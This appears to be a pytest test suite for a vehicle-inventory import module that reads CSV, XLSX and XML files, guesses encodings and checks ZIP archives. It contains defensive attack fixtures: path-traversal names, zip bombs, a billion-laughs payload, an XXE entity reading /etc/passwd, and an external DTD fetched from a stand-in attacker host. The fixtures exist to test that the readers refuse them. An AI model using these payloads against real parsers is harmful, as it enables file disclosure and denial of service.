import codecs
import csv
import io
import zipfile
from datetime import datetime
from decimal import Decimal
from pathlib import Path

import openpyxl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from app.imports.readers import (
    SUPPORTED_ENCODINGS,
    FileFormat,
    ImportFileError,
    ZipLimits,
    decode_text,
    detect_format,
    open_zip_safely,
    read_table,
    sniff_delimiter,
    unsafe_member_name,
)

KIJIJI = Path(__file__).resolve().parents[2] / "app" / "demo" / "data" / "kijiji_listings_2019.csv"


def rows_of(table):
    return [(row.number, row.values) for row in table.rows()]


# --- CSV ---------------------------------------------------------------------------------


def test_csv_quoted_fields_and_row_numbers(tmp_path):
    path = tmp_path / "stock.csv"
    path.write_bytes(
        b'vin,make,body_type,configration\r\n'
        b'1HGCM82633A004352,Honda,"Minivan, Van","line one\r\nline two"\r\n'
        b'\r\n'
        b'2T1KY32E65C906081,Toyota,Sedan,"15"" wheels"\r\n'
    )
    table = read_table(path.read_bytes(), path.name)
    assert table.format is FileFormat.CSV
    assert table.header == ("vin", "make", "body_type", "configration")
    assert (table.encoding, table.encoding_guessed, table.delimiter) == ("utf-8", False, ",")
    # Row 1 is the header; the quoted line break keeps record 2 one row; row 3 is blank.
    assert rows_of(table) == [
        (2, {"vin": "1HGCM82633A004352", "make": "Honda", "body_type": "Minivan, Van",
             "configration": "line one\r\nline two"}),
        (4, {"vin": "2T1KY32E65C906081", "make": "Toyota", "body_type": "Sedan", "configration": '15" wheels'}),
    ]
    assert rows_of(table) == rows_of(table)  # rows() can be walked twice


@pytest.mark.parametrize(
    ("delimiter", "name"),
    [(";", "semicolon.csv"), ("\t", "tabs.tsv"), ("|", "pipes.txt"), (",", "comma.csv")],
)
def test_csv_delimiter_is_sniffed(delimiter, name):
    text = delimiter.join(["vin", "price", "make"]) + "\n"
    text += delimiter.join(["1HGCM82633A004352", '"25,998.00"', "Honda"]) + "\n"
    text += delimiter.join(["2T1KY32E65C906081", "19000", "Toyota"]) + "\n"
    table = read_table(text.encode(), name)
    assert table.delimiter == delimiter
    assert [row.values["price"] for row in table.rows()] == ["25,998.00", "19000"]


def test_sniffer_guess_is_overruled_when_columns_do_not_line_up():
    # Pipes inside the equipment text would tempt a guesser; only the comma gives 3 columns on every row.
    text = "make,model,configration\nRam,3500,SLT|4x4|Diesel\nFord,F-150,XLT|4x4\nGMC,Sierra,SLE|Z71|4x4\n"
    assert sniff_delimiter(text) == ","


def test_single_column_file_falls_back_to_comma():
    table = read_table(b"vin\n1HGCM82633A004352\n", "vins.csv")
    assert table.delimiter == ","
    assert rows_of(table) == [(2, {"vin": "1HGCM82633A004352"})]


def test_kijiji_file_reads_3145_rows():
    table = read_table(KIJIJI.read_bytes(), KIJIJI.name)
    assert table.header[:4] == ("brand", "model", "model_year", "list_price")
    assert len(table.header) == 16
    rows = list(table.rows())
    assert len(rows) == 3145
    assert (rows[0].number, rows[-1].number) == (2, 3146)
    assert rows[1].values["configration"] == "New Car SLT|4x4|Diesel|Crew/8Box|Snow,LuxuryPkgs|S"


def test_utf8_bom_is_removed_from_first_header():
    data = codecs.BOM_UTF8 + "vin;marque\n1HGCM82633A004352;Citroën\n".encode()
    table = read_table(data, "bom.csv")
    assert table.header == ("vin", "marque")
    assert (table.encoding, table.delimiter) == ("utf-8", ";")
    assert rows_of(table) == [(2, {"vin": "1HGCM82633A004352", "marque": "Citroën"})]


def test_utf16_excel_unicode_text():
    data = "vin\tmake\n1HGCM82633A004352\t현대\n".encode("utf-16")  # BOM + little-endian
    table = read_table(data, "export.txt")
    assert (table.encoding, table.delimiter) == ("utf-16", "\t")
    assert rows_of(table) == [(2, {"vin": "1HGCM82633A004352", "make": "현대"})]


SAMPLES = {
    "cp1251": ("cp1251", "марка;модель;цена\nТойота;Камри;25000\nЛада;Веста;9000\n", "Тойота"),
    "euc-kr": ("euc_kr", "제조사,모델,가격\n현대,쏘나타,25000000\n기아,K5,23000000\n", "현대"),
    "tis-620": ("tis_620", "ยี่ห้อ,รุ่น,ราคา\nโตโยต้า,คัมรี่,1500000\nฮอนด้า,ซีวิค,950000\n", "โตโยต้า"),
}


@pytest.mark.parametrize("key", list(SAMPLES))
def test_legacy_encodings_are_guessed(tmp_path, key):
    codec, text, first_make = SAMPLES[key]
    path = tmp_path / f"{key}.csv"
    path.write_bytes(text.encode(codec))
    table = read_table(path.read_bytes(), path.name)
    assert (table.encoding, table.encoding_guessed) == (key, True)
    first = next(table.rows())
    assert first.values[table.header[0]] == first_make


@pytest.mark.parametrize("key", list(SAMPLES))
def test_chosen_encoding_is_used_and_not_a_guess(key):
    codec, text, first_make = SAMPLES[key]
    table = read_table(text.encode(codec), "x.csv", encoding=key)
    assert (table.encoding, table.encoding_guessed) == (key, False)
    assert next(table.rows()).values[table.header[0]] == first_make


def test_valid_utf8_wins_over_chosen_encoding():
    table = read_table("make\nЛада\n".encode(), "x.csv", encoding="cp1251")
    assert (table.encoding, next(table.rows()).values["make"]) == ("utf-8", "Лада")


def test_cp949_extension_hangul_reads_as_euc_kr():
    # "똠" is not among EUC-KR's 2,350 precomposed syllables; Windows writes it with a
    # CP949 extension code that a strict EUC-KR decoder refuses.
    data = "make,model\n현대,똠\n".encode("cp949")
    with pytest.raises(UnicodeDecodeError):
        data.decode("euc_kr")
    table = read_table(data, "x.csv", encoding="euc-kr")
    assert next(table.rows()).values["model"] == "똠"


def test_wrong_chosen_encoding_names_the_line():
    # 0xFF is not a character in Windows-874 (Thai); it sits on line 3.
    data = b"make,model\nToyota,Camry\nHonda,\xff\n"
    with pytest.raises(ImportFileError, match=r"Line 3 is not valid Thai \(TIS-620 / Windows-874\) text"):
        read_table(data, "x.csv", encoding="tis-620")


def test_unknown_encoding_key_and_unrecognisable_bytes():
    with pytest.raises(ImportFileError, match="Unknown text encoding 'latin-9'"):
        read_table(b"a\n\xe9\n", "x.csv", encoding="latin-9")
    # 0x98 is undefined in Windows-1251, 0xFF in Windows-874 and as a CP949 lead byte.
    with pytest.raises(ImportFileError, match="could not be recognised. Choose one of"):
        decode_text(b"a,b\n\x98\xff,\xff\x98\n")
    assert set(SUPPORTED_ENCODINGS) >= {"utf-8", "cp1251", "euc-kr", "tis-620"}


def test_header_problems():
    with pytest.raises(ImportFileError, match=r"'price' appears twice \(columns 2 and 3\)"):
        read_table(b"vin,Price,price\n1,2,3\n", "x.csv")
    table = read_table(b"vin,,make,,\n1,2,3\n", "x.csv")
    assert table.header == ("vin", "column_2", "make")  # trailing blank names dropped
    with pytest.raises(ImportFileError, match="no header row"):
        read_table(b"\n ,\n\n", "x.csv")


def test_short_and_long_rows():
    table = read_table(b"vin,make,model\n1,Honda\n2,Ford,F-150,extra,\n", "x.csv")
    first, second = table.rows()
    assert first.values == {"vin": "1", "make": "Honda", "model": None}
    assert second.extra_values == ("extra",)  # the empty trailing cell is not reported


def test_broken_quote_is_a_file_error():
    with pytest.raises(ImportFileError, match="Row 3 cannot be read as CSV"):
        list(read_table(b'vin,make\n1,Honda\n2,"Ford\n', "x.csv").rows())


def test_size_and_row_limits():
    with pytest.raises(ImportFileError, match="The file is empty"):
        read_table(b"", "x.csv")
    with pytest.raises(ImportFileError, match="The file is 2 KB; the limit is 1 KB"):
        read_table(b"a\n" * 1024, "x.csv", max_bytes=1024)
    table = read_table(b"vin\n1\n2\n3\n", "x.csv", max_rows=2)
    with pytest.raises(ImportFileError, match="more than 2 rows"):
        list(table.rows())


def test_bad_delimiter_choice():
    with pytest.raises(ImportFileError, match="cannot be a column delimiter"):
        read_table(b"a,b\n", "x.csv", delimiter='"')


_cell = st.text(alphabet="abcXYZ019 ,;|\t\"'\n-=", max_size=12)


@settings(max_examples=60)
@given(
    st.sampled_from([",", ";", "\t", "|"]),
    st.lists(st.lists(_cell, min_size=3, max_size=3), min_size=1, max_size=6),
)
def test_property_csv_round_trip_with_known_delimiter(delimiter, body):
    # Whatever the cells contain, csv.writer's quoting + read_table give the same cells back.
    body = [row for row in body if any(cell.strip() for cell in row)]
    buffer = io.StringIO()
    writer = csv.writer(buffer, delimiter=delimiter)
    writer.writerow(["a", "b", "c"])
    writer.writerows(body)
    table = read_table(buffer.getvalue().encode(), "x.csv", delimiter=delimiter)
    assert [list(row.values.values()) for row in table.rows()] == body


# --- format detection --------------------------------------------------------------------


@pytest.mark.parametrize(
    ("data", "name", "message"),
    [
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1rest", "old.xls", "old Excel"),
        (b"PK\x03\x04rest", "photos.zip", "ZIP archive"),
        (b"vin,make\n", "stock.xlsx", "not an Excel workbook"),
        (b"whatever", "stock.ods", "'.ods' are not supported"),
        (b"%PDF-1.7", "stock.pdf", "'.pdf' are not supported"),
        (b"vin\n", "stock.docx", "not supported"),
        (b"vin\n", "stock.html", "'.html' are not supported"),
    ],
)
def test_detect_format_errors(data, name, message):
    with pytest.raises(ImportFileError, match=message):
        detect_format(data, name)


@pytest.mark.parametrize(
    ("data", "name", "expected"),
    [
        (b"vin\n", "stock.CSV", FileFormat.CSV),
        (b"vin\n", "stock", FileFormat.CSV),
        (b"PK\x03\x04", "stock.xlsx", FileFormat.XLSX),
        (b"PK\x03\x04", "renamed.csv", FileFormat.XLSX),  # content wins over a wrong name
        (b"<?xml version='1.0'?><a/>", "feed.txt", FileFormat.XML),
        (b"<inventory/>", "feed.xml", FileFormat.XML),
    ],
)
def test_detect_format(data, name, expected):
    assert detect_format(data, name) is expected


# --- XLSX --------------------------------------------------------------------------------


def _xlsx_bytes(tmp_path, build):
    workbook = openpyxl.Workbook()
    build(workbook)
    path = tmp_path / "stock.xlsx"
    workbook.save(path)
    return path.read_bytes()


def test_xlsx_values_dates_and_formulas(tmp_path):
    def build(workbook):
        sheet = workbook.active
        sheet.title = "Stock"
        sheet.append([])  # a title row left empty
        sheet.append(["VIN", "Price", "Year", "In stock since", "Doubled"])
        sheet.append(["1HGCM82633A004352", 25998.99, 2019, datetime(2024, 3, 1, 9, 30), "=B3*2"])
        sheet.append([])
        sheet.append(["2T1KY32E65C906081", 19000, 2017.0, None, None])
        workbook.create_sheet("Notes").append(["ignore me"])

    data = _xlsx_bytes(tmp_path, build)
    table = read_table(data, "stock.xlsx")
    assert table.format is FileFormat.XLSX
    assert (table.sheet, table.sheet_names) == ("Stock", ("Stock", "Notes"))
    assert table.header == ("VIN", "Price", "Year", "In stock since", "Doubled")
    first, second = table.rows()
    # Header on sheet row 2, data on rows 3 and 5 (row 4 empty).
    assert (first.number, second.number) == (3, 5)
    assert first.values["Price"] == Decimal("25998.99")  # float 25998.99 -> shortest repr -> Decimal
    assert isinstance(first.values["Price"], Decimal)
    assert first.values["Year"] == 2019
    assert first.values["In stock since"] == datetime(2024, 3, 1, 9, 30)
    # openpyxl saves no cached result, so the formula cell's value is unknown and reported.
    assert first.values["Doubled"] is None
    assert first.formula_columns == ("Doubled",)
    assert second.values["Price"] == 19000
    assert second.values["Year"] == Decimal("2017.0")
    assert second.formula_columns == ()


def test_xlsx_choose_sheet(tmp_path):
    def build(workbook):
        workbook.active.append(["notes"])
        other = workbook.create_sheet("Inventory")
        other.append(["vin", "make"])
        other.append(["1HGCM82633A004352", "Honda"])

    data = _xlsx_bytes(tmp_path, build)
    table = read_table(data, "stock.xlsx", sheet="Inventory")
    assert rows_of(table) == [(2, {"vin": "1HGCM82633A004352", "make": "Honda"})]
    with pytest.raises(ImportFileError, match="no sheet named 'Cars'. Sheets: Sheet, Inventory"):
        read_table(data, "stock.xlsx", sheet="Cars")


def test_xlsx_empty_sheet_and_damaged_file(tmp_path):
    data = _xlsx_bytes(tmp_path, lambda workbook: None)
    with pytest.raises(ImportFileError, match="The sheet 'Sheet' is empty"):
        read_table(data, "stock.xlsx")
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("hello.txt", "not a workbook")
    with pytest.raises(ImportFileError, match="damaged or is not an .xlsx workbook"):
        read_table(buffer.getvalue(), "stock.xlsx")


def test_xlsx_zip_bomb_is_refused():
    # 20 MB of zeros deflate to about 20 KB: a ratio near 1,000, far over the limit of 200.
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/worksheets/sheet1.xml", b"\0" * (20 * 1024 * 1024))
    with pytest.raises(ImportFileError, match="compressed suspiciously well"):
        read_table(buffer.getvalue(), "bomb.xlsx")


# --- ZIP checks --------------------------------------------------------------------------


def _zip(entries, method=zipfile.ZIP_DEFLATED):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", method) as archive:
        for name, payload in entries:
            archive.writestr(zipfile.ZipInfo(name) if isinstance(name, str) else name, payload)
    return buffer.getvalue()


@pytest.mark.parametrize(
    ("name", "unsafe"),
    [
        ("../evil.jpg", True),
        ("photos/../../evil.jpg", True),
        ("..\\evil.jpg", True),
        ("/etc/passwd", True),
        ("\\windows\\x.jpg", True),
        ("C:evil.jpg", True),
        ("c:\\evil.jpg", True),
        ("a\x00.jpg", True),
        ("", True),
        ("photos/1HGCM82633A004352_2.jpg", False),
        ("..jpg", False),  # a name, not a parent directory
        ("photos/a..b.jpg", False),
    ],
)
def test_unsafe_member_name(name, unsafe):
    assert unsafe_member_name(name) is unsafe


def test_open_zip_safely_limits():
    with pytest.raises(ImportFileError, match="unsafe path '../x.jpg'"):
        open_zip_safely(_zip([("../x.jpg", b"1")]))
    with pytest.raises(ImportFileError, match="has 3 entries; the limit is 2"):
        open_zip_safely(_zip([("a", b"1"), ("b", b"1"), ("c", b"1")]), ZipLimits(max_entries=2))
    # Stored (uncompressed) so only the sizes count: 3 x 400 bytes = 1,200 > 1,000.
    stored = _zip([("a", b"x" * 400), ("b", b"x" * 400), ("c", b"x" * 400)], zipfile.ZIP_STORED)
    with pytest.raises(ImportFileError, match="unpacks to more than 1000 bytes"):
        open_zip_safely(stored, ZipLimits(max_total_bytes=1000, max_entry_bytes=1000))
    with pytest.raises(ImportFileError, match="'a' in the ZIP file unpacks to 400 bytes; the limit is 300 bytes"):
        open_zip_safely(stored, ZipLimits(max_entry_bytes=300))
    with pytest.raises(ImportFileError, match="damaged or not a ZIP"):
        open_zip_safely(b"PK\x03\x04 truncated")
    with open_zip_safely(stored, ZipLimits()) as archive:
        assert archive.namelist() == ["a", "b", "c"]


def test_open_zip_safely_refuses_encrypted_entries():
    data = bytearray(_zip([("a.jpg", b"x")], zipfile.ZIP_STORED))
    # Set bit 0 ("encrypted") of the general-purpose flags in the local and central headers.
    local = data.find(b"PK\x03\x04")
    central = data.find(b"PK\x01\x02")
    data[local + 6] |= 1
    data[central + 8] |= 1
    with pytest.raises(ImportFileError, match="password-protected entry 'a.jpg'"):
        open_zip_safely(bytes(data))


# --- XML ---------------------------------------------------------------------------------


def test_xml_records_attributes_namespaces_and_lists():
    data = b"""<?xml version="1.0" encoding="UTF-8"?>
<feed xmlns="urn:dealer">
  <vehicles>
    <vehicle stock="A-1">
      <vin>1HGCM82633A004352</vin><make>Honda</make><price> 25998 </price>
      <photos><photo>a.jpg</photo><photo>b.jpg</photo></photos>
    </vehicle>
    <vehicle stock="A-2"><vin>2T1KY32E65C906081</vin><make>Toyota</make><color>Red</color></vehicle>
  </vehicles>
</feed>"""
    table = read_table(data, "feed.xml")
    assert table.format is FileFormat.XML
    assert table.header == ("stock", "vin", "make", "price", "photos", "color")
    assert rows_of(table) == [
        (1, {"stock": "A-1", "vin": "1HGCM82633A004352", "make": "Honda", "price": "25998",
             "photos": "a.jpg\nb.jpg", "color": None}),
        (2, {"stock": "A-2", "vin": "2T1KY32E65C906081", "make": "Toyota", "price": None,
             "photos": None, "color": "Red"}),
    ]


def test_xml_single_vehicle():
    data = b"<inventory><vehicle><vin>1HGCM82633A004352</vin><make>Honda</make></vehicle></inventory>"
    assert rows_of(read_table(data, "one.xml")) == [(1, {"vin": "1HGCM82633A004352", "make": "Honda"})]


BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
]>
<vehicles><vehicle><make>&lol3;</make></vehicle></vehicles>"""

EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE vehicles [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<vehicles><vehicle><make>&secret;</make></vehicle></vehicles>"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE vehicles SYSTEM "http://attacker.example/evil.dtd">
<vehicles><vehicle><make>Honda</make></vehicle></vehicles>"""


@pytest.mark.parametrize("payload", [BILLION_LAUGHS, EXTERNAL_ENTITY, EXTERNAL_DTD])
def test_xml_dtd_and_entities_are_refused(payload):
    with pytest.raises(ImportFileError, match="DOCTYPE, entity declarations or external references are not accepted"):
        read_table(payload, "attack.xml")


def test_xml_not_well_formed():
    with pytest.raises(ImportFileError, match=r"not well-formed \(line 2, column"):
        read_table(b"<vehicles>\n<vehicle><make>Honda</vehicle></vehicles>", "bad.xml")
    with pytest.raises(ImportFileError, match="no vehicle records"):
        read_table(b"<vehicles/>", "empty.xml")


@pytest.mark.parametrize(("codec", "make"), [("euc-kr", "현대"), ("windows-1251", "Лада"), ("tis-620", "โตโยต้า")])
def test_xml_declared_legacy_encodings(codec, make):
    data = f'<?xml version="1.0" encoding="{codec}"?><v><car><make>{make}</make></car></v>'.encode(codec)
    assert rows_of(read_table(data, "feed.xml")) == [(1, {"make": make})]


def test_xlsx_part_lying_about_its_size_is_refused_before_openpyxl():
    # A sheet part claiming 1 KB that inflates to 8 MB: under every declared limit, caught while inflating.
    from tests.imports.test_photos import deflated_zeros, zip_with_raw_entry

    data = zip_with_raw_entry("xl/worksheets/sheet1.xml", deflated_zeros(8 * 1024 * 1024), 1024)
    with pytest.raises(ImportFileError, match="unpacks to more than the 1 KB it declares"):
        read_table(data, "stock.xlsx")
